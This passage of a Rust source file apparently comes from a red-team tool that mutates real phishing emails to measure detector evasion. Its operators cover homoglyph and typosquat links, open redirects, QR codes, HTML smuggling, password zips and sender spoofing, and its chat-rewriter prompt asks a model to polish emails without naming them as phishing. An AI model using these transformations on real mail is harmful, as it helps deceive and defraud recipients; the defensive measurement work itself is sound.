//! Attacker transformations of real phishing messages, for the red-team
//! evasion measurement (`outwork redteam CORPUS --ops ...`).
//!
//! A message is parsed (mail-parser) into a small model: its top-level
//! header lines kept byte for byte (less the MIME ones, which describe a
//! body that is rebuilt), the sender, the text and HTML bodies, inline parts
//! and attachments. Each operator changes the model the way an attacker
//! would, and the result is built once (mail-builder) into a valid MIME
//! message. Building is deterministic: the original Date and Message-ID
//! lines are kept as they were, MIME boundaries and every random choice come
//! from the caller's seed, so the same seed gives the same bytes.
//! [`Op::Identity`] is the parse-and-rebuild baseline that every operator is
//! compared with, so rebuilding itself never counts as evasion.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::fmt::Write as _;
use std::io::{Cursor, Read, Write};
use std::ops::Range;
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use mail_builder::MessageBuilder;
use mail_builder::headers::Header as _;
use mail_builder::headers::address::Address;
use mail_builder::headers::content_type::ContentType;
use mail_builder::mime::{BodyPart, MimePart};
use mail_parser::{Encoding, HeaderName, MessageParser, MimeHeaders, PartType};

/// At most this many distinct links are rewritten per operator.
const MAX_LINKS: usize = 50;
/// At most this much visible text goes to a rewriter.
const MAX_REWRITE_BYTES: usize = 20 * 1024;
/// A rewriter's answer larger than this is refused.
const MAX_REWRITER_OUTPUT: usize = 4 << 20;
/// The side of the QR code image, at least (pixels).
const QR_MIN_SIZE: u32 = 290;

// ---- operators ---------------------------------------------------------------

/// One attacker transformation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Op {
    Identity,
    Rewrite,
    Homoglyph,
    Typosquat,
    Shortener,
    Redirect,
    Qr,
    HtmlObfuscate,
    Smuggle,
    Zip,
    PasswordZip,
    DisplayName,
    LookalikeSender,
    /// Not an attack: the benign twin (see [`Op::BENIGN`], [`benign_twin`]).
    BenignTwin,
}

impl Op {
    /// Every operator except [`Op::Identity`].
    pub const ALL: &'static [Op] = &[
        Op::Rewrite,
        Op::Homoglyph,
        Op::Typosquat,
        Op::Shortener,
        Op::Redirect,
        Op::Qr,
        Op::HtmlObfuscate,
        Op::Smuggle,
        Op::Zip,
        Op::PasswordZip,
        Op::DisplayName,
        Op::LookalikeSender,
    ];

    /// Transformations that make legitimate mail, not attacks: parseable by
    /// [`Op::parse`], never in [`Op::ALL`] (the early-warning gate runs
    /// attacks only). A flagged twin is a false positive, not a catch.
    pub const BENIGN: &'static [Op] = &[Op::BenignTwin];

    /// The kebab-case name used on the command line and in reports.
    pub fn name(self) -> &'static str {
        match self {
            Op::Identity => "identity",
            Op::Rewrite => "rewrite",
            Op::Homoglyph => "homoglyph",
            Op::Typosquat => "typosquat",
            Op::Shortener => "shortener",
            Op::Redirect => "redirect",
            Op::Qr => "qr",
            Op::HtmlObfuscate => "html-obfuscate",
            Op::Smuggle => "smuggle",
            Op::Zip => "zip",
            Op::PasswordZip => "password-zip",
            Op::DisplayName => "display-name",
            Op::LookalikeSender => "lookalike-sender",
            Op::BenignTwin => "benign-twin",
        }
    }

    /// The operator named `s` (case and `_`/`-` do not matter).
    pub fn parse(s: &str) -> Option<Op> {
        let norm = s.trim().to_ascii_lowercase().replace('_', "-");
        std::iter::once(&Op::Identity)
            .chain(Op::ALL)
            .chain(Op::BENIGN)
            .copied()
            .find(|op| op.name() == norm)
    }

    /// One line: what the attacker does.
    pub fn describe(self) -> &'static str {
        match self {
            Op::Identity => {
                "no change: the message parsed and rebuilt, the baseline every operator is compared with"
            }
            Op::Rewrite => {
                "rewrites the visible text with a paraphrasing rewriter (builtin synonyms, a command or a chat model), keeping every link"
            }
            Op::Homoglyph => {
                "swaps Latin letters of each link's domain for Cyrillic look-alikes (IDN homograph, punycode in the href)"
            }
            Op::Typosquat => {
                "points each link at a one-typo look-alike of its domain (swapped, doubled or dropped letter, rn/m, l/1)"
            }
            Op::Shortener => "hides each link behind a URL shortener",
            Op::Redirect => "wraps each link in an open redirect on a trusted site",
            Op::Qr => {
                "replaces the links with an inline QR code image of the first link (quishing)"
            }
            Op::HtmlObfuscate => {
                "breaks up the HTML text with zero-width characters, numeric entities, empty spans and hidden filler"
            }
            Op::Smuggle => {
                "moves the call to action into an attached HTML file that assembles a login page in the browser (HTML smuggling)"
            }
            Op::Zip => "moves the call to action into an HTML page inside a .zip attachment",
            Op::PasswordZip => {
                "moves the call to action into a ZipCrypto-encrypted .zip whose password is in the body"
            }
            Op::DisplayName => {
                "sets the From display name to an impersonated brand, possibly with a spoofed address in it"
            }
            Op::LookalikeSender => {
                "sends From (and Reply-To) a freshly registered-looking look-alike domain of the brand"
            }
            Op::BenignTwin => {
                "not an attack: the same text sent by the impersonated brand itself (From, Reply-To, Return-Path and every link on the brand's own domain, a trusted passing SPF/DKIM/DMARC Authentication-Results on top, no attachment but inline images, no QR code, no script); does not apply when no brand is identified"
            }
        }
    }
}

impl std::fmt::Display for Op {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

// ---- rewriters ---------------------------------------------------------------

/// Rewrites the visible text of a message (the `rewrite` operator).
pub trait Rewriter: Send + Sync {
    fn name(&self) -> String;
    /// Rewrite the visible text of a message. Link placeholders like [[LINK1]] must be kept.
    fn rewrite(&self, text: &str) -> Result<String, String>;
}

/// Offline, deterministic paraphrase: phishing vocabulary swapped for
/// synonyms (capitalisation kept) and two middle sentences of long
/// paragraphs swapped. Placeholders are never touched.
pub struct BuiltinRewriter {
    pub seed: u64,
}

/// An external command: the text on its standard input, the rewritten text
/// on its standard output. A non-zero exit, a timeout (the child is killed)
/// or an empty output is an error.
pub struct CommandRewriter {
    pub argv: Vec<String>,
    pub timeout: Duration,
}

/// An OpenAI-compatible chat completion endpoint
/// (`POST {endpoint}/v1/chat/completions`).
pub struct ChatRewriter {
    /// Server root such as `http://127.0.0.1:8080` (a trailing `/v1` or the
    /// full `/v1/chat/completions` URL is accepted too).
    pub endpoint: String,
    pub model: String,
    /// Sent as a bearer token when set.
    pub api_key: Option<String>,
    pub timeout: Duration,
    /// The system prompt; [`ChatRewriter::DEFAULT_PROMPT`] by default.
    pub prompt: String,
}

/// Phishing vocabulary: `phrase|synonym|synonym...`, lower case.
const SYNONYMS: &[&str] = &[
    "urgent|pressing|time-sensitive|important|critical",
    "urgently|promptly|without delay|right away",
    "immediately|right away|at once|without delay|promptly",
    "verify|confirm|validate|re-confirm|check",
    "verification|validation|confirmation|review",
    "confirm|verify|validate|reconfirm",
    "account|profile|account profile|membership",
    "accounts|profiles|memberships",
    "suspended|put on hold|temporarily restricted|deactivated|locked",
    "suspend|put on hold|restrict|deactivate",
    "suspension|restriction|deactivation|hold",
    "locked|blocked|restricted|frozen",
    "password|passcode|login credentials|sign-in code",
    "login|sign-in|log-in|access",
    "log in|sign in|log on",
    "sign in|log in|log on",
    "click here|tap here|select this link|follow this link|use this link",
    "click|tap|select|press",
    "invoice|bill|statement|payment request",
    "payment|remittance|transaction|transfer",
    "security|safety|protection",
    "update|refresh|review|renew",
    "expire|lapse|run out|be deactivated",
    "expires|lapses|runs out|ends",
    "expired|lapsed|ended|become inactive",
    "expiration|expiry|deadline|end date",
    "within 24 hours|in the next 24 hours|within one day|by tomorrow|before the day is out",
    "within 48 hours|in the next 48 hours|within two days",
    "dear customer|dear valued customer|dear user|hello|dear client",
    "dear user|dear customer|hello|dear member",
    "unusual activity|suspicious activity|irregular activity|unexpected sign-in activity",
    "suspicious|unusual|irregular|unrecognised",
    "unauthorized|unrecognised|unapproved|unknown",
    "failure to|failing to|neglecting to",
    "permanently|for good|irreversibly",
    "deleted|removed|erased",
    "closed|shut down|terminated",
    "restricted|limited|constrained",
    "notification|notice|alert|message",
    "important|essential|critical|key",
    "action required|response needed|attention required|your action is needed",
    "as soon as possible|at your earliest convenience|without delay|promptly",
    "thank you|thanks|many thanks|we appreciate it",
    "regards|best regards|kind regards|sincerely",
    "customer service|customer support|client services|customer care",
    "support team|help desk|service team|customer care team",
    "information|details|data",
    "credentials|login details|sign-in details",
    "mailbox|inbox|email account",
    "document|file|paperwork",
    "review|check|look over|examine",
    "receive|get|obtain",
    "refund|reimbursement|repayment",
    "package|parcel|shipment",
];

impl Rewriter for BuiltinRewriter {
    fn name(&self) -> String {
        "builtin".into()
    }

    fn rewrite(&self, text: &str) -> Result<String, String> {
        let mut rng = Rng::new(self.seed ^ fnv(text.as_bytes()));
        let swapped = swap_sentences(text, &mut rng);
        let mut table: Vec<(&str, Vec<&str>)> = SYNONYMS
            .iter()
            .filter_map(|entry| {
                let mut words = entry.split('|');
                Some((words.next()?, words.collect()))
            })
            .collect();
        // Longest phrase first: "click here" before "click".
        table.sort_by_key(|(phrase, _)| std::cmp::Reverse(phrase.len()));
        let mut out = String::with_capacity(swapped.len() + swapped.len() / 4);
        for piece in split_placeholders(&swapped) {
            match piece {
                Piece::Text(t) => paraphrase(t, &table, &mut rng, &mut out),
                Piece::Link(n) => {
                    let _ = write!(out, "[[LINK{n}]]");
                }
            }
        }
        Ok(out)
    }
}

/// Swap two middle sentences of every paragraph that has at least four.
fn swap_sentences(text: &str, rng: &mut Rng) -> String {
    let mut out = String::with_capacity(text.len());
    for (i, para) in text.split("\n\n").enumerate() {
        if i > 0 {
            out.push_str("\n\n");
        }
        let mut sentences = split_sentences(para);
        if sentences.len() >= 4 {
            let at = 1 + rng.below(sentences.len() - 3);
            sentences.swap(at, at + 1);
        }
        for s in sentences {
            out.push_str(s);
        }
    }
    out
}

/// Sentences of a paragraph, each with its trailing spaces; a sentence ends
/// at `.`, `!` or `?` followed by a space and a capital letter or a
/// placeholder.
fn split_sentences(para: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut prev_end = false;
    let mut in_space = false;
    for (i, ch) in para.char_indices() {
        if prev_end && ch == ' ' {
            in_space = true;
            continue;
        }
        if in_space && (ch.is_uppercase() || ch == '[') {
            if let Some(s) = para.get(start..i) {
                out.push(s);
            }
            start = i;
        }
        in_space = false;
        prev_end = matches!(ch, '.' | '!' | '?');
    }
    if let Some(s) = para.get(start..)
        && !s.is_empty()
    {
        out.push(s);
    }
    out
}

fn paraphrase(text: &str, table: &[(&str, Vec<&str>)], rng: &mut Rng, out: &mut String) {
    let lower = text.to_ascii_lowercase();
    let mut i = 0;
    let mut prev_alnum = false;
    while let Some(ch) = text.get(i..).and_then(|s| s.chars().next()) {
        if !prev_alnum && ch.is_ascii_alphabetic() {
            let rest = lower.get(i..).unwrap_or("");
            let hit = table.iter().find(|(phrase, _)| {
                rest.starts_with(phrase)
                    && !rest
                        .get(phrase.len()..)
                        .and_then(|s| s.chars().next())
                        .is_some_and(char::is_alphanumeric)
            });
            if let Some((phrase, synonyms)) = hit
                && !synonyms.is_empty()
                && rng.below(10) < 9
            {
                let original = text.get(i..i + phrase.len()).unwrap_or("");
                let synonym = synonyms[rng.below(synonyms.len())];
                out.push_str(&match_case(original, synonym));
                i += phrase.len();
                prev_alnum = true;
                continue;
            }
        }
        out.push(ch);
        prev_alnum = ch.is_alphanumeric();
        i += ch.len_utf8();
    }
}

/// `replacement` written in the case of `original` (ALL CAPS, Capitalised
/// or as is).
fn match_case(original: &str, replacement: &str) -> String {
    let letters: Vec<char> = original.chars().filter(|c| c.is_alphabetic()).collect();
    if letters.len() >= 2 && letters.iter().all(|c| c.is_uppercase()) {
        return replacement.to_uppercase();
    }
    if original.chars().next().is_some_and(char::is_uppercase) {
        let mut chars = replacement.chars();
        return match chars.next() {
            Some(first) => first.to_uppercase().chain(chars).collect(),
            None => String::new(),
        };
    }
    replacement.to_string()
}

impl Rewriter for CommandRewriter {
    fn name(&self) -> String {
        format!(
            "command:{}",
            self.argv.first().map(String::as_str).unwrap_or("")
        )
    }

    fn rewrite(&self, text: &str) -> Result<String, String> {
        let (program, args) = self.argv.split_first().ok_or("empty command")?;
        let mut child = Command::new(program)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| format!("cannot start {program}: {e}"))?;
        let deadline = Instant::now() + self.timeout;
        // Pipes are served by their own threads so that a child that writes
        // before it has read everything cannot dead-lock us; on a timeout
        // they are left behind (they end when the pipes close).
        if let Some(mut stdin) = child.stdin.take() {
            let input = text.as_bytes().to_vec();
            std::thread::spawn(move || {
                let _ = stdin.write_all(&input);
            });
        }
        let out_rx = drain(child.stdout.take(), MAX_REWRITER_OUTPUT + 1);
        let err_rx = drain(child.stderr.take(), 4096);
        let status = loop {
            match child.try_wait() {
                Ok(Some(status)) => break status,
                Ok(None) if Instant::now() >= deadline => {
                    let _ = child.kill();
                    let _ = child.wait();
                    return Err(format!("{program}: timed out after {:?}", self.timeout));
                }
                Ok(None) => std::thread::sleep(Duration::from_millis(10)),
                Err(e) => {
                    let _ = child.kill();
                    let _ = child.wait();
                    return Err(format!("{program}: {e}"));
                }
            }
        };
        let grace = deadline
            .saturating_duration_since(Instant::now())
            .max(Duration::from_millis(200));
        let out = out_rx
            .recv_timeout(grace)
            .map_err(|_| format!("{program}: its output was not closed in time"))?;
        let err = err_rx
            .recv_timeout(Duration::from_millis(200))
            .unwrap_or_default();
        if !status.success() {
            let err = String::from_utf8_lossy(&err);
            let err = err.trim();
            return Err(if err.is_empty() {
                format!("{program}: {status}")
            } else {
                format!("{program}: {status}: {}", truncate(err, 300))
            });
        }
        if out.len() > MAX_REWRITER_OUTPUT {
            return Err(format!(
                "{program}: output larger than {MAX_REWRITER_OUTPUT} bytes"
            ));
        }
        let out = String::from_utf8_lossy(&out).into_owned();
        if out.trim().is_empty() {
            return Err(format!("{program}: empty output"));
        }
        Ok(out)
    }
}

/// Read a pipe to its end on a thread, keeping at most `keep` bytes.
fn drain<R: Read + Send + 'static>(pipe: Option<R>, keep: usize) -> mpsc::Receiver<Vec<u8>> {
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut kept = Vec::new();
        if let Some(mut pipe) = pipe {
            let mut buf = [0u8; 8192];
            loop {
                match pipe.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => {
                        let room = keep.saturating_sub(kept.len());
                        kept.extend_from_slice(buf.get(..n.min(room)).unwrap_or_default());
                    }
                }
            }
        }
        let _ = tx.send(kept);
    });
    rx
}

impl ChatRewriter {
    /// The default system prompt.
    pub const DEFAULT_PROMPT: &'static str = "You rewrite emails. Rewrite the email text you are given so that it reads naturally and fluently, in the same language, keeping its intent, its tone and its call to action. Keep every placeholder of the form [[LINK1]], [[LINK2]], ... exactly as written, once each. Return only the rewritten email text: no preamble, no explanation, no quotes, no Markdown.";

    /// A rewriter for `endpoint` and `model` with the default prompt, no API
    /// key and a 120 s timeout.
    pub fn new(endpoint: impl Into<String>, model: impl Into<String>) -> ChatRewriter {
        ChatRewriter {
            endpoint: endpoint.into(),
            model: model.into(),
            api_key: None,
            timeout: Duration::from_secs(120),
            prompt: Self::DEFAULT_PROMPT.to_string(),
        }
    }

    /// The chat completions URL.
    pub fn url(&self) -> String {
        let base = self.endpoint.trim().trim_end_matches('/');
        if base.ends_with("/chat/completions") {
            base.to_string()
        } else if base.ends_with("/v1") {
            format!("{base}/chat/completions")
        } else {
            format!("{base}/v1/chat/completions")
        }
    }
}

impl Rewriter for ChatRewriter {
    fn name(&self) -> String {
        format!("chat:{}", self.model)
    }

    fn rewrite(&self, text: &str) -> Result<String, String> {
        let url = self.url();
        let body = serde_json::json!({
            "model": self.model,
            "messages": [
                {"role": "system", "content": self.prompt},
                {"role": "user", "content": text},
            ],
            "temperature": 0.7,
        });
        let body = serde_json::to_vec(&body).map_err(|e| format!("{url}: {e}"))?;
        let agent: ureq::Agent = ureq::Agent::config_builder()
            .timeout_global(Some(self.timeout))
            .http_status_as_error(false)
            .build()
            .into();
        let mut req = agent
            .post(&url)
            .header("Content-Type", "application/json")
            .header("Accept", "application/json");
        if let Some(key) = &self.api_key {
            req = req.header("Authorization", &format!("Bearer {key}"));
        }
        let mut resp = req.send(&body[..]).map_err(|e| match e {
            ureq::Error::Timeout(t) => format!("{url}: timed out ({t})"),
            e => format!("{url}: {e}"),
        })?;
        let status = resp.status().as_u16();
        let answer = resp
            .body_mut()
            .with_config()
            .limit(16 << 20)
            .read_to_vec()
            .map_err(|e| format!("{url}: reading the answer: {e}"))?;
        if !(200..300).contains(&status) {
            let text = String::from_utf8_lossy(&answer);
            return Err(format!(
                "{url}: HTTP {status}: {}",
                truncate(text.trim(), 300)
            ));
        }
        let v: serde_json::Value =
            serde_json::from_slice(&answer).map_err(|e| format!("{url}: not JSON ({e})"))?;
        let content = v
            .pointer("/choices/0/message/content")
            .and_then(serde_json::Value::as_str)
            .ok_or_else(|| format!("{url}: no choices[0].message.content in the answer"))?;
        let content = clean_chat_answer(content);
        if content.trim().is_empty() {
            return Err(format!("{url}: empty answer"));
        }
        Ok(content)
    }
}

/// Drop a reasoning model's `<think>` block and a Markdown fence around the
/// whole answer.
fn clean_chat_answer(s: &str) -> String {
    let mut s = s.trim();
    if s.starts_with("<think>")
        && let Some(end) = s.find("</think>")
    {
        s = s.get(end + "</think>".len()..).unwrap_or("").trim();
    }
    if let Some(inner) = s.strip_prefix("```")
        && let Some(inner) = inner.strip_suffix("```")
    {
        // Drop the info string (```text) on the opening line.
        let inner = match inner.find('\n') {
            Some(nl) if !inner.get(..nl).unwrap_or("").contains(' ') => {
                inner.get(nl + 1..).unwrap_or("")
            }
            _ => inner,
        };
        s = inner.trim();
    }
    s.to_string()
}

fn truncate(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s.get(..end).unwrap_or("")
}

// ---- context, result, errors -------------------------------------------------

/// What the operators need besides the message.
pub struct MutateCtx<'a> {
    pub rewriter: &'a dyn Rewriter,
    /// Per-message seed (e.g. a hash of the file path): runs are reproducible.
    pub seed: u64,
    /// URL shortener host, `bit.ly` by default.
    pub shortener: String,
    /// Open-redirect prefix the percent-encoded target is appended to.
    pub redirector: String,
    /// Brand to impersonate (display-name, lookalike-sender); `None` derives
    /// it from the message (its first link's registrable domain).
    pub brand: Option<String>,
}

impl<'a> MutateCtx<'a> {
    pub fn new(rewriter: &'a dyn Rewriter, seed: u64) -> MutateCtx<'a> {
        MutateCtx {
            rewriter,
            seed,
            shortener: "bit.ly".into(),
            redirector: "https://www.google.com/url?q=".into(),
            brand: None,
        }
    }
}

/// A transformed message and what each operator did.
#[derive(Debug, Clone)]
pub struct Mutated {
    pub bytes: Vec<u8>,
    pub notes: Vec<String>,
}

#[derive(Debug, thiserror::Error)]
pub enum MutateError {
    #[error("not a parseable message")]
    Unparseable,
    #[error("rewriter {0}: {1}")]
    Rewriter(String, String),
    #[error("{0}")]
    Build(String),
    /// The operator has nothing to work on (the benign twin of a message
    /// that impersonates no identifiable brand): skip the message.
    #[error("does not apply: {0}")]
    NotApplicable(String),
}

/// Apply `ops` in order to the message `raw` and build the result.
pub fn mutate(raw: &[u8], ops: &[Op], ctx: &MutateCtx) -> Result<Mutated, MutateError> {
    let mut model = Model::parse(raw)?;
    let mut notes = Vec::new();
    for (i, &op) in ops.iter().enumerate() {
        let seed = mix(ctx.seed ^ fnv(op.name().as_bytes()) ^ (i as u64).wrapping_mul(GOLDEN));
        apply(op, &mut model, ctx, seed, &mut notes)?;
    }
    let bytes = model.build(ctx.seed)?;
    Ok(Mutated { bytes, notes })
}

fn apply(
    op: Op,
    m: &mut Model,
    ctx: &MutateCtx,
    seed: u64,
    notes: &mut Vec<String>,
) -> Result<(), MutateError> {
    let mut rng = Rng::new(seed);
    match op {
        Op::Identity => notes.push("identity: rebuilt without changes".into()),
        Op::Rewrite => op_rewrite(m, ctx, notes)?,
        Op::Homoglyph => op_domain(m, &mut rng, notes, true),
        Op::Typosquat => op_domain(m, &mut rng, notes, false),
        Op::Shortener => op_shortener(m, ctx, seed, notes),
        Op::Redirect => op_redirect(m, ctx, notes),
        Op::Qr => op_qr(m, &mut rng, notes)?,
        Op::HtmlObfuscate => op_html_obfuscate(m, &mut rng, notes),
        Op::Smuggle => op_smuggle(m, &mut rng, notes),
        Op::Zip => op_zip(m, &mut rng, notes, false)?,
        Op::PasswordZip => op_zip(m, &mut rng, notes, true)?,
        Op::DisplayName => op_display_name(m, ctx, &mut rng, notes),
        Op::LookalikeSender => op_lookalike_sender(m, ctx, &mut rng, notes),
        Op::BenignTwin => op_benign_twin(m, ctx, notes)?,
    }
    Ok(())
}

// ---- the message model -------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Eq)]
struct Mailbox {
    name: Option<String>,
    address: String,
}

#[derive(Debug, Clone)]
struct Part {
    content_type: String,
    /// `charset=utf-8` is added (the content was decoded to UTF-8).
    utf8: bool,
    filename: Option<String>,
    cid: Option<String>,
    /// Content-Disposition inline (else attachment).
    inline: bool,
    bytes: Vec<u8>,
}

#[derive(Debug, Clone, Default)]
struct Model {
    /// Kept top-level header lines: lower-case name, raw bytes ending in CRLF.
    headers: Vec<(String, Vec<u8>)>,
    subject: Option<String>,
    from: Option<Mailbox>,
    reply_to: Option<Mailbox>,
    new_from: Option<Mailbox>,
    new_reply_to: Option<Mailbox>,
    text: Option<String>,
    html: Option<String>,
    /// Inline parts with a Content-ID (multipart/related with the body).
    related: Vec<Part>,
    attachments: Vec<Part>,
}

impl Model {
    fn parse(raw: &[u8]) -> Result<Model, MutateError> {
        let raw = strip_mbox_line(raw);
        let msg = MessageParser::default()
            .parse(raw)
            .ok_or(MutateError::Unparseable)?;
        let root = msg.parts.first().ok_or(MutateError::Unparseable)?;
        // A blob with no header at all, or only unknown ones, is not a message.
        if !root
            .headers
            .iter()
            .any(|h| !matches!(h.name, HeaderName::Other(_)))
        {
            return Err(MutateError::Unparseable);
        }
        let mut m = Model::default();
        for h in &root.headers {
            let Some(line) = raw.get(h.offset_field as usize..h.offset_end as usize) else {
                continue;
            };
            let Some(colon) = line.iter().position(|&b| b == b':') else {
                continue;
            };
            // "Subject : x" (obsolete syntax) names "Subject".
            let name = line.get(..colon).unwrap_or_default().trim_ascii_end();
            if name.is_empty() || !name.iter().all(|&b| b.is_ascii_graphic()) {
                continue;
            }
            let lname = String::from_utf8_lossy(name).to_ascii_lowercase();
            if lname == "mime-version" || lname.starts_with("content-") {
                continue;
            }
            m.headers.push((lname, crlf_lines(line)));
        }
        let first = |a: Option<&mail_parser::Address>| {
            a.and_then(|a| a.first()).and_then(|a| {
                let address = a.address.as_deref()?.trim().to_string();
                (!address.is_empty()).then(|| Mailbox {
                    name: a
                        .name
                        .as_deref()
                        .map(str::trim)
                        .filter(|n| !n.is_empty())
                        .map(str::to_string),
                    address,
                })
            })
        };
        m.subject = msg.subject().map(str::to_string);
        m.from = first(msg.from());
        m.reply_to = first(msg.reply_to());

        let mut texts = Vec::new();
        for &id in &msg.text_body {
            if let Some(PartType::Text(t)) = msg.parts.get(id as usize).map(|p| &p.body) {
                texts.push(t.replace("\r\n", "\n"));
            }
        }
        let mut htmls = Vec::new();
        for &id in &msg.html_body {
            if let Some(PartType::Html(h)) = msg.parts.get(id as usize).map(|p| &p.body) {
                htmls.push(h.replace("\r\n", "\n"));
            }
        }
        m.text = (!texts.is_empty()).then(|| texts.join("\n"));
        m.html = (!htmls.is_empty()).then(|| utf8_meta(&htmls.join("\n")));

        for &id in &msg.attachments {
            let Some(p) = msg.parts.get(id as usize) else {
                continue;
            };
            let (bytes, utf8) = match &p.body {
                PartType::Text(t) | PartType::Html(t) => (t.as_bytes().to_vec(), true),
                PartType::Binary(b) | PartType::InlineBinary(b) => (b.to_vec(), false),
                PartType::Message(nested) => {
                    let own = (p.encoding == Encoding::None)
                        .then(|| raw.get(p.offset_body as usize..p.offset_end as usize))
                        .flatten();
                    (own.unwrap_or(nested.raw_message()).to_vec(), false)
                }
                PartType::Multipart(_) => continue,
            };
            let content_type = p
                .content_type()
                .map(|ct| match ct.subtype() {
                    Some(sub) => format!("{}/{}", ct.ctype(), sub),
                    None => ct.ctype().to_string(),
                })
                .map(|ct| ct.to_ascii_lowercase())
                .filter(|ct| is_mime_type(ct))
                .unwrap_or_else(|| {
                    if matches!(p.body, PartType::Message(_)) {
                        "message/rfc822".into()
                    } else if utf8 {
                        "text/plain".into()
                    } else {
                        "application/octet-stream".into()
                    }
                });
            let inline = matches!(p.body, PartType::InlineBinary(_))
                || p.content_disposition().is_some_and(|d| d.is_inline());
            let part = Part {
                utf8: utf8 && content_type.starts_with("text/"),
                content_type,
                filename: p.attachment_name().map(clean_filename),
                cid: p
                    .content_id()
                    .map(|c| {
                        c.chars()
                            .filter(|c| {
                                !c.is_control() && !c.is_whitespace() && !matches!(c, '<' | '>')
                            })
                            .collect::<String>()
                    })
                    .filter(|c| !c.is_empty()),
                inline,
                bytes,
            };
            if inline && part.cid.is_some() {
                m.related.push(part);
            } else {
                m.attachments.push(part);
            }
        }
        Ok(m)
    }

    fn build(self, seed: u64) -> Result<Vec<u8>, MutateError> {
        let mut out = Vec::new();
        let mut wrote_from = false;
        let mut wrote_reply_to = false;
        for (name, line) in &self.headers {
            match (name.as_str(), &self.new_from, &self.new_reply_to) {
                ("from", Some(from), _) => {
                    if !wrote_from {
                        write_address(&mut out, "From", from);
                        wrote_from = true;
                    }
                }
                ("reply-to", _, Some(reply_to)) => {
                    if !wrote_reply_to {
                        write_address(&mut out, "Reply-To", reply_to);
                        wrote_reply_to = true;
                    }
                }
                _ => out.extend_from_slice(line),
            }
        }
        if let (false, Some(from)) = (wrote_from, &self.new_from) {
            write_address(&mut out, "From", from);
        }
        if let (false, Some(reply_to)) = (wrote_reply_to, &self.new_reply_to) {
            write_address(&mut out, "Reply-To", reply_to);
        }
        out.extend_from_slice(b"MIME-Version: 1.0\r\n");

        // "=_" never occurs in base64 or quoted-printable; a part that may
        // go out unencoded (text) must not hold the prefix either.
        let mut prefix = String::from("=_outwork_");
        {
            let plain: Vec<&[u8]> = [self.text.as_deref(), self.html.as_deref()]
                .into_iter()
                .flatten()
                .map(str::as_bytes)
                .chain(
                    self.attachments
                        .iter()
                        .chain(&self.related)
                        .filter(|p| !p.content_type.starts_with("image/"))
                        .map(|p| p.bytes.as_slice()),
                )
                .collect();
            let mut salt = 0u32;
            while salt < 1000
                && plain
                    .iter()
                    .any(|b| find_bytes(b, 0, prefix.as_bytes()).is_some())
            {
                salt += 1;
                prefix = format!("=_outwork{salt}_");
            }
        }
        let mut boundaries = 0u64;
        let mut boundary = || {
            boundaries += 1;
            format!(
                "{prefix}{:016x}_{boundaries}",
                mix(seed ^ boundaries.wrapping_mul(GOLDEN))
            )
        };
        let multipart = |kind: &str, b: String, parts: Vec<MimePart<'static>>| {
            MimePart::new(
                ContentType::new(kind.to_string()).attribute("boundary", b),
                BodyPart::Multipart(parts),
            )
        };
        let text = self
            .text
            .map(|t| MimePart::new("text/plain", BodyPart::Text(t.into())));
        let html = self
            .html
            .map(|h| MimePart::new("text/html", BodyPart::Text(h.into())));
        // Inline parts go with the HTML they illustrate:
        // alternative(text, related(html, images)).
        let related: Vec<MimePart<'static>> = self
            .related
            .into_iter()
            .map(|p| mime_part(p, true))
            .collect();
        let (html, mut related) = match html {
            Some(h) if !related.is_empty() => {
                let mut parts = vec![h];
                parts.extend(related);
                (
                    Some(multipart("multipart/related", boundary(), parts)),
                    Vec::new(),
                )
            }
            h => (h, related),
        };
        let mut body = match (text, html) {
            (Some(t), Some(h)) => Some(multipart("multipart/alternative", boundary(), vec![t, h])),
            (Some(p), None) | (None, Some(p)) => Some(p),
            (None, None) => None,
        };
        if !related.is_empty() {
            // Inline parts without an HTML body: keep them next to the text.
            let mut parts: Vec<MimePart<'static>> = body.take().into_iter().collect();
            parts.append(&mut related);
            body = Some(multipart("multipart/related", boundary(), parts));
        }
        if !self.attachments.is_empty() {
            let mut parts: Vec<MimePart<'static>> = body.take().into_iter().collect();
            parts.extend(self.attachments.into_iter().map(|p| {
                let inline = p.inline;
                mime_part(p, inline)
            }));
            body = Some(multipart("multipart/mixed", boundary(), parts));
        }
        let body = body.unwrap_or_else(|| MimePart::new("text/plain", BodyPart::Text("\n".into())));
        MessageBuilder::new()
            .body(body)
            .write_body(&mut out)
            .map_err(|e| MutateError::Build(format!("writing the message: {e}")))?;
        Ok(out)
    }

    fn sender_domain(&self) -> Option<String> {
        let from = self.new_from.as_ref().or(self.from.as_ref())?;
        let (_, domain) = from.address.rsplit_once('@')?;
        Some(domain.trim().to_ascii_lowercase())
    }
}

fn mime_part(p: Part, inline: bool) -> MimePart<'static> {
    let mut ct = ContentType::new(p.content_type);
    if p.utf8 {
        ct = ct.attribute("charset", "utf-8");
    }
    if let Some(name) = &p.filename {
        ct = ct.attribute("name", name.clone());
    }
    let mut disposition = ContentType::new(if inline { "inline" } else { "attachment" });
    if let Some(name) = p.filename {
        disposition = disposition.attribute("filename", name);
    }
    let mut part = MimePart::new(ct, BodyPart::Binary(p.bytes.into()))
        .header("Content-Disposition", disposition);
    if let Some(cid) = p.cid {
        part = part.cid(cid);
    }
    part
}

fn write_address(out: &mut Vec<u8>, name: &str, mailbox: &Mailbox) {
    out.extend_from_slice(name.as_bytes());
    out.extend_from_slice(b": ");
    // No control characters (a brand given on the command line, a decoded
    // original name) may reach the header.
    let display = mailbox
        .name
        .as_deref()
        .map(|n| n.chars().filter(|c| !c.is_control()).collect::<String>())
        .filter(|n| !n.trim().is_empty());
    let address: String = mailbox
        .address
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace() && !matches!(c, '<' | '>'))
        .collect();
    Address::new_address(display, address).write_header(out, name.len() + 2);
}

/// Without a leading mbox `From ` separator line.
